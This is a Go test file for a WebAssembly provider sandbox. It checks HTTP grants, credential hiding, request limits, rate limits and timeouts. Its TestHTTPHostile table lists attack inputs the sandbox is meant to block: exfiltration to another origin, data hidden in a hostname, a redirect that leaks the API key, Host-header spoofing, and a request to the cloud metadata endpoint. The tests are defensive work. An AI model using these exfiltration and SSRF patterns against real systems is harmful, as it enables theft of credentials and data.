package wasm_test

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/cogplan/cogplan/pkg/reconcile"
	"github.com/cogplan/cogplan/runtime/wasm"
)

// apiKey is the secret that no guest may ever hold.
const apiKey = "s3cr3t/key+with=marks"

// site is a server that keeps things, and remembers all that reached it.
type site struct {
	*httptest.Server
	mu     sync.Mutex
	things map[string]string
	log    []string
	keys   map[string]int
	extra  http.HandlerFunc
}

func newSite(t *testing.T, extra http.HandlerFunc) *site {
	t.Helper()
	s := &site{things: map[string]string{}, keys: map[string]int{}, extra: extra}
	s.Server = httptest.NewServer(s)
	t.Cleanup(s.Close)
	return s
}

func (s *site) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(r.Body)
	s.mu.Lock()
	s.log = append(s.log, r.Method+" "+r.URL.String())
	s.keys[r.Header.Get("X-API-Key")]++
	s.mu.Unlock()
	name, isThing := strings.CutPrefix(r.URL.Path, "/things/")
	if !isThing {
		if s.extra != nil {
			s.extra(w, r)
		}
		return
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	switch r.Method {
	case "PUT":
		s.things[name] = string(body)
	case "DELETE":
		delete(s.things, name)
	default:
		value, ok := s.things[name]
		if !ok {
			http.NotFound(w, r)
		}
		_, _ = io.WriteString(w, value)
	}
}

// changes are the requests that could have changed something.
func (s *site) changes() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	var out []string
	for _, line := range s.log {
		if !strings.HasPrefix(line, "GET ") && !strings.HasPrefix(line, "HEAD ") {
			out = append(out, line)
		}
	}
	return out
}

func (s *site) requests() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return slices.Clone(s.log)
}

func (s *site) grant() reconcile.HTTPGrant {
	return reconcile.HTTPGrant{
		Origin: s.URL, Methods: []string{"GET", "HEAD", "PUT", "POST", "DELETE"}, Private: true, Credential: "key",
	}
}

// netBench is a host and the provider netprobe with grants for the network.
func netBench(t *testing.T, limits reconcile.Limits, grants ...reconcile.HTTPGrant) *bench {
	t.Helper()
	b := &bench{t: t, dir: t.TempDir()}
	host, err := wasm.New(wasm.Options{
		CacheDir: filepath.Join(guestDir(t), "cache"),
		Log: func(r wasm.LogRecord) {
			b.mu.Lock()
			defer b.mu.Unlock()
			b.logs = append(b.logs, r.Level+": "+r.Message)
		},
		Audit: func(u wasm.Use) {
			b.mu.Lock()
			defer b.mu.Unlock()
			b.logs = append(b.logs, fmt.Sprintf("audit: %s %t", u.Effect, u.Allowed))
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	b.host = host
	t.Cleanup(func() { _ = host.Close() })
	module, err := wasm.Load(buildGuest(t, "./testdata/netprobe"))
	if err != nil {
		t.Fatal(err)
	}
	b.provider, err = host.Provider(t.Context(), wasm.ProviderSpec{
		Info:   reconcile.ProviderInfo{Name: "net", Source: "net.wasm", Grants: reconcile.Grants{HTTP: grants}, Limits: limits},
		Module: module, ModuleDir: b.dir,
		Credential: func(_ context.Context, name string) (wasm.Credential, error) {
			if name != "key" {
				return wasm.Credential{}, fmt.Errorf("there is no credential %q", name)
			}
			return wasm.Credential{Kind: wasm.CredentialHeader, Name: "X-API-Key", Secret: apiKey}, nil
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func (b *bench) things(s *site, act map[string]any, things ...string) *wasm.Resource {
	body := map[string]any{"base": s.URL, "things": map[string]any{}, "act": act}
	for _, name := range things {
		body["things"].(map[string]any)[name] = "value of " + name
	}
	if act == nil {
		delete(body, "act")
	}
	return b.named("net.things", body)
}

func TestHTTPHonest(t *testing.T) {
	s := newSite(t, nil)
	b := netBench(t, reconcile.Limits{}, s.grant())
	ctx := t.Context()
	r := b.things(s, nil, "a", "b", "c")
	_, _, p, err := plan(ctx, r, nil)
	if err != nil {
		t.Fatal(err, b.log())
	}
	if n := s.changes(); len(n) != 0 {
		t.Fatalf("planning changed the world: %v", n)
	}
	effects := p.Actions[0].Details[reconcile.DetailEffects]
	want := []any{map[string]any{"capability": "http", "operation": "PUT", "target": s.URL + "/things/a"}}
	if fmt.Sprint(effects) != fmt.Sprint(want) {
		t.Errorf("effects %v, want %v", effects, want)
	}
	results, state, err := apply(ctx, r, nil)
	if err != nil || len(results) != 3 || s.things["b"] != "value of b" {
		t.Fatalf("results %+v, things %v: %v", results, s.things, err)
	}
	if _, _, p, err = plan(ctx, r, state); err != nil || p.Summary.HasChanges() {
		t.Fatalf("second plan: %+v, %v", p, err)
	}
	if s.keys[apiKey] != len(s.log) {
		t.Errorf("of %d requests %d had the credential", len(s.log), s.keys[apiKey])
	}
	if strings.Contains(b.log(), apiKey) {
		t.Error("the secret is in the log")
	}
}

// Goroutines of a guest have their requests under way at the same time.
func TestHTTPOverlaps(t *testing.T) {
	const things, delay = 50, 50 * time.Millisecond
	var mu sync.Mutex
	now, most := 0, 0
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		now++
		most = max(most, now)
		mu.Unlock()
		time.Sleep(delay)
		mu.Lock()
		now--
		mu.Unlock()
		http.NotFound(w, r)
	}))
	defer s.Close()
	b := netBench(t, reconcile.Limits{}, reconcile.HTTPGrant{Origin: s.URL, Methods: []string{"GET", "PUT"}, Private: true})
	names := map[string]any{}
	for i := range things {
		names[fmt.Sprintf("t%02d", i)] = "x"
	}
	r := b.named("net.things", map[string]any{"base": s.URL, "things": names})
	config, err := r.LoadConfigContext(t.Context(), "")
	if err != nil {
		t.Fatal(err)
	}
	began := time.Now()
	if _, err := r.FetchLiveKnown(t.Context(), config, nil); err != nil {
		t.Fatal(err)
	}
	took := time.Since(began)
	t.Logf("%d requests of %s took %s, %d at a time", things, delay, took, most)
	if most < 8 || took > things*delay/2 {
		t.Errorf("requests do not overlap: %d at a time, %s", most, took)
	}
}

// A provider that wants harm, in each phase: nothing of it reaches the server,
// and the message names provider, resource, phase and what was tried, though
// the provider swallowed the error.
func TestHTTPHostile(t *testing.T) {
	evil := newSite(t, nil)
	s := newSite(t, func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/leave" {
			http.Redirect(w, r, evil.URL+"/stolen?key="+apiKey, http.StatusFound)
		}
	})
	tests := []struct {
		name, when, act string
		applying        bool
		parts           []string
	}{
		{"write while reading", "live", "PUT " + s.URL + "/things/x", false, []string{`provider "net" (net.things), while reading the world`, "http PUT " + s.URL + "/things/x", "nothing may change while a plan is made"}},
		{"post while reading", "live", "POST " + s.URL + "/things/x", false, []string{"http POST", "while reading the world"}},
		{"write while opening", "open", "PUT " + s.URL + "/things/x", false, []string{"http PUT", "nothing may change"}},
		{"delete while declaring effects", "effects", "DELETE " + s.URL + "/things/a", false, []string{"http DELETE", "while declaring the effects"}},
		{"method override", "live", "header X-HTTP-Method-Override=DELETE " + s.URL + "/things/a", false, []string{"a provider may not set the header X-Http-Method-Override"}},
		{"host header", "live", "header Host=evil.example " + s.URL + "/things/a", false, []string{"a provider may not set the header Host"}},
		{"another origin", "live", "GET " + evil.URL + "/stolen?data=x", false, []string{"no grant names the origin " + evil.URL}},
		{"data in a host name", "live", "GET http://746f70736563726574." + strings.TrimPrefix(s.URL, "http://") + "/x", false, []string{"no grant names the origin http://746f70736563726574."}},
		{"redirect", "live", "follow " + s.URL + "/leave", false, []string{"no grant names the origin " + evil.URL}},
		{"user in the URL", "live", "GET " + strings.Replace(s.URL, "//", "//user:pw@", 1) + "/x", false, []string{"names a user"}},
		{"undeclared delete", "apply", "DELETE " + s.URL + "/things/keep", true, []string{`provider "net" (net.things), while applying`, "http DELETE " + s.URL + "/things/keep", "the plan that was reviewed does not say"}},
		{"undeclared write", "apply", "PUT " + s.URL + "/things/keep", true, []string{"http PUT " + s.URL + "/things/keep"}},
		{"method not granted", "apply", "PATCH " + s.URL + "/things/a", true, []string{"the grant allows GET"}},
		{"goroutine that stays", "live", "linger " + s.URL + "/things/keep\nGET " + s.URL + "/x", false, []string{"http PUT " + s.URL + "/things/keep"}},
		{"violation and then a crash", "live", "PUT " + s.URL + "/things/x\npanic away", false, []string{"http PUT"}},
		{"violation in apply and then a crash", "apply", "PUT " + s.URL + "/things/x\npanic away", true, []string{"http PUT " + s.URL + "/things/x"}},
		{"metadata service", "live", "GET http://169.254.169.254/latest", false, []string{"no grant names the origin http://169.254.169.254"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s.mu.Lock()
			s.things = map[string]string{"keep": "precious"}
			s.log = nil
			s.mu.Unlock()
			b := netBench(t, reconcile.Limits{}, s.grant())
			r := b.things(s, map[string]any{tt.when: tt.act}, "a")
			var err error
			if tt.applying {
				var results []reconcile.Result
				results, _, err = apply(t.Context(), r, nil)
				if len(results) != 1 || results[0].Status != reconcile.ApplyFailed || !strings.Contains(results[0].Error, `applying create thing "a"`) {
					t.Errorf("results %+v", results)
				}
			} else {
				_, _, _, err = plan(t.Context(), r, nil)
			}
			wantFault(t, err, wasm.FaultViolation, tt.parts...)
			if got := s.changes(); len(got) != 0 {
				t.Errorf("the harm was done: %v", got)
			}
			if got := evil.requests(); len(got) != 0 {
				t.Errorf("data left to another origin: %v", got)
			}
			if strings.Contains(fmt.Sprint(err)+b.log(), apiKey) {
				t.Error("the secret is in a message")
			}
		})
	}
}

// A write of one action is not permitted in another.
func TestHTTPEffectsAreOfOneAction(t *testing.T) {
	s := newSite(t, nil)
	b := netBench(t, reconcile.Limits{}, s.grant())
	r := b.things(s, map[string]any{"apply": "PUT " + s.URL + "/things/b", "only": "a"}, "a", "b")
	_, _, err := apply(t.Context(), r, nil)
	wantFault(t, err, wasm.FaultViolation, "while applying", "http PUT "+s.URL+"/things/b")
	if got := s.changes(); slices.Contains(got, "PUT /things/b") {
		t.Errorf("the other action's write was done: %v", got)
	}
}

// A private address needs a grant that says so, whatever the grant's name.
func TestHTTPPrivateAddress(t *testing.T) {
	s := newSite(t, nil)
	grant := s.grant()
	grant.Private = false
	b := netBench(t, reconcile.Limits{}, grant)
	_, _, _, err := plan(t.Context(), b.things(s, nil, "a"), nil)
	wantFault(t, err, wasm.FaultViolation, "private = true")
	if got := s.requests(); len(got) != 0 {
		t.Errorf("it was reached: %v", got)
	}
}

// What a server echoes back comes to the guest without the secret.
func TestHTTPCredentialEcho(t *testing.T) {
	s := newSite(t, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("X-Echo", r.Header.Get("X-API-Key"))
		_, _ = fmt.Fprintf(w, "you said %s and %q", r.Header.Get("X-API-Key"), r.Header.Get("X-API-Key"))
	})
	b := netBench(t, reconcile.Limits{}, s.grant())
	r := b.things(s, map[string]any{"live": "header X-API-Key=mine " + s.URL + "/echo"}, "a")
	if _, _, _, err := plan(t.Context(), r, nil); err != nil {
		t.Fatal(err)
	}
	log := b.log()
	if !strings.Contains(log, "you said") || strings.Contains(log, "s3cr3t") {
		t.Errorf("log: %s", log)
	}
	if s.keys[apiKey] == 0 || s.keys["mine"] != 0 {
		t.Errorf("the server saw %v", s.keys)
	}
}

func TestHTTPLimits(t *testing.T) {
	s := newSite(t, func(w http.ResponseWriter, _ *http.Request) {
		_, _ = w.Write(bytes.Repeat([]byte("x"), 3<<20))
	})
	t.Run("requests", func(t *testing.T) {
		b := netBench(t, reconcile.Limits{Requests: 20}, s.grant())
		_, _, _, err := plan(t.Context(), b.things(s, map[string]any{"live": "many " + s.URL + "/things/a"}, "a"), nil)
		wantFault(t, err, wasm.FaultLimit, "more than 20 requests", "limits { requests }")
	})
	t.Run("response", func(t *testing.T) {
		b := netBench(t, reconcile.Limits{Response: 1 << 20}, s.grant())
		_, _, _, err := plan(t.Context(), b.things(s, map[string]any{"live": "GET " + s.URL + "/big"}, "a"), nil)
		wantFault(t, err, wasm.FaultLimit, "larger than 1048576 bytes", "limits { response }")
	})
	t.Run("pieces", func(t *testing.T) {
		b := netBench(t, reconcile.Limits{}, s.grant())
		if _, _, _, err := plan(t.Context(), b.things(s, map[string]any{"live": "stream " + s.URL + "/big"}, "a"), nil); err != nil {
			t.Fatal(err)
		}
		if want := "stream: 3145728 of -1 bytes in several reads: true"; !strings.Contains(b.log(), want) {
			t.Error(b.log())
		}
	})
}

// Requests to one origin begin no faster than the module allows.
func TestHTTPRate(t *testing.T) {
	s := newSite(t, nil)
	took := func(limits reconcile.Limits) time.Duration {
		b := netBench(t, limits, s.grant())
		began := time.Now()
		if _, _, _, err := plan(t.Context(), b.things(s, map[string]any{"live": "many " + s.URL + "/things/a"}, "a"), nil); err != nil {
			t.Fatal(err)
		}
		return time.Since(began)
	}
	// It makes two hundred.
	if slow := took(reconcile.Limits{Rate: 100}); slow < 1990*time.Millisecond {
		t.Errorf("200 requests within %s, with 100 a second", slow)
	}
	if fast := took(reconcile.Limits{}); fast > 1900*time.Millisecond {
		t.Errorf("the control took %s", fast)
	}
}

// A server that never answers costs its own call, and the guest is told.
func TestHTTPSilentServer(t *testing.T) {
	release := make(chan struct{})
	s := newSite(t, func(_ http.ResponseWriter, r *http.Request) {
		select {
		case <-release:
		case <-r.Context().Done():
		}
	})
	defer close(release)
	b := netBench(t, reconcile.Limits{Timeout: 2 * time.Second}, s.grant())
	began := time.Now()
	_, _, _, err := plan(t.Context(), b.things(s, map[string]any{"live": "GET " + s.URL + "/never"}, "a"), nil)
	if took := time.Since(began); took > 10*time.Second {
		t.Errorf("it took %s", took)
	}
	if !strings.Contains(b.log(), "context deadline exceeded") {
		t.Errorf("the guest was not told: %v\n%s", err, b.log())
	}
}

// What nobody waits for is given up with the call that began it.
func TestHTTPEndsWithTheCall(t *testing.T) {
	gone := make(chan struct{}, 10)
	s := newSite(t, func(_ http.ResponseWriter, r *http.Request) {
		<-r.Context().Done()
		gone <- struct{}{}
	})
	b := netBench(t, reconcile.Limits{}, s.grant())
	if _, _, _, err := plan(t.Context(), b.things(s, map[string]any{"live": "start " + s.URL + "/hang"}, "a"), nil); err != nil {
		t.Fatal(err)
	}
	for _, line := range s.requests() {
		if strings.HasSuffix(line, "/hang") {
			select {
			case <-gone:
			case <-time.After(10 * time.Second):
				t.Fatal("the request is still under way")
			}
		}
	}
	runtime.KeepAlive(b)
}

func TestHTTPDeclaresWhatIsNotGranted(t *testing.T) {
	s := newSite(t, nil)
	for declared, part := range map[string]string{
		"http://elsewhere.example/x":   "no grant names the origin http://elsewhere.example",
		s.URL + "/things/{id}x":        "a placeholder has to be a whole segment",
		s.URL + "/things/../../secret": "dot segment",
		s.URL + "/things/a?id={id}":    "a placeholder may not stand in a query",
	} {
		b := netBench(t, reconcile.Limits{}, s.grant())
		_, _, _, err := plan(t.Context(), b.things(s, map[string]any{"declare": declared}, "a"), nil)
		if err == nil || !strings.Contains(err.Error(), part) {
			t.Errorf("%s: got %v, want %q", declared, err, part)
		}
	}
}

// A secret is read when the provider runs, and not before.
func TestHTTPCredentialIsReadLate(t *testing.T) {
	module, err := wasm.Load(buildGuest(t, "./testdata/netprobe"))
	if err != nil {
		t.Fatal(err)
	}
	host, err := wasm.New(wasm.Options{CacheDir: filepath.Join(guestDir(t), "cache")})
	if err != nil {
		t.Fatal(err)
	}
	defer host.Close() //nolint:errcheck // a test
	reads := 0
	spec := wasm.ProviderSpec{
		Info:   reconcile.ProviderInfo{Name: "net", Grants: reconcile.Grants{HTTP: []reconcile.HTTPGrant{{Origin: "https://api.example", Credential: "key"}}}},
		Module: module, ModuleDir: t.TempDir(),
		Credential: func(context.Context, string) (wasm.Credential, error) {
			reads++
			return wasm.Credential{}, fmt.Errorf("the variable API_KEY is not set")
		},
	}
	p, err := host.Provider(t.Context(), spec)
	if err != nil || reads != 0 {
		t.Fatalf("%d reads: %v", reads, err)
	}
	r := p.Resource(wasm.ResourceSpec{
		Meta: reconcile.MetaResource{Name: "net.x"},
		Config: func(context.Context) (reconcile.Config, error) {
			return reconcile.Config{Body: map[string]any{"base": "x"}}, nil
		},
	})
	if _, err := r.LoadConfigContext(t.Context(), ""); err == nil || !strings.Contains(err.Error(), `credential "key": the variable API_KEY is not set`) {
		t.Errorf("got %v", err)
	}
	spec.Credential = nil
	if _, err := host.Provider(t.Context(), spec); err == nil || !strings.Contains(err.Error(), `there is no credential "key"`) {
		t.Errorf("got %v", err)
	}
}

// Resources whose providers wait for a server do not wait for each other.
func TestHTTPResourcesOverlap(t *testing.T) {
	const resources = 6
	arrived, release := make(chan struct{}, resources), make(chan struct{})
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		arrived <- struct{}{}
		<-release
		http.NotFound(w, r)
	}))
	defer s.Close()
	b := netBench(t, reconcile.Limits{}, reconcile.HTTPGrant{Origin: s.URL, Methods: []string{"GET", "PUT"}, Private: true})
	var all sync.WaitGroup
	for i := range resources {
		r := b.named(fmt.Sprintf("net.r%d", i), map[string]any{"base": s.URL, "things": map[string]any{"a": "x"}})
		all.Go(func() {
			if _, _, _, err := plan(t.Context(), r, nil); err != nil {
				t.Error(err)
			}
		})
	}
	for range resources {
		select {
		case <-arrived:
		case <-time.After(20 * time.Second):
			t.Error("they wait for each other")
		}
	}
	close(release)
	all.Wait()
}

// BenchmarkHTTP makes 200 requests one after the other, each through the
// sandbox and the broker to a server on the loopback interface; native makes
// the same ones without them.
func BenchmarkHTTP(b *testing.B) {
	const requests = 200
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { _, _ = io.WriteString(w, "{}") }))
	defer s.Close()
	module, err := wasm.Load(buildGuest(b, "./testdata/netprobe"))
	if err != nil {
		b.Fatal(err)
	}
	host, err := wasm.New(wasm.Options{CacheDir: filepath.Join(guestDir(b), "cache")})
	if err != nil {
		b.Fatal(err)
	}
	defer host.Close() //nolint:errcheck // a benchmark
	provider, err := host.Provider(b.Context(), wasm.ProviderSpec{
		Info: reconcile.ProviderInfo{Name: "net", Limits: reconcile.Limits{Requests: 1 << 40}, Grants: reconcile.Grants{
			HTTP: []reconcile.HTTPGrant{{Origin: s.URL, Private: true}},
		}},
		Module: module, ModuleDir: b.TempDir(),
	})
	if err != nil {
		b.Fatal(err)
	}
	bench := &bench{t: b, provider: provider}
	b.Run("native", func(b *testing.B) {
		for b.Loop() {
			for range requests {
				resp, err := http.Get(s.URL + "/x")
				if err != nil {
					b.Fatal(err)
				}
				_, _ = io.Copy(io.Discard, resp.Body)
				_ = resp.Body.Close()
			}
		}
		b.ReportMetric(float64(b.Elapsed().Microseconds())/float64(b.N*requests), "µs/request")
	})
	b.Run("sandboxed", func(b *testing.B) {
		r := bench.named("net.bench", map[string]any{"base": s.URL, "act": map[string]any{"live": "many " + s.URL + "/x"}})
		config, err := r.LoadConfigContext(b.Context(), "")
		if err != nil {
			b.Fatal(err)
		}
		for b.Loop() {
			if _, err := r.FetchLiveKnown(b.Context(), config, nil); err != nil {
				b.Fatal(err)
			}
		}
		b.ReportMetric(float64(b.Elapsed().Microseconds())/float64(b.N*requests), "µs/request")
	})
}
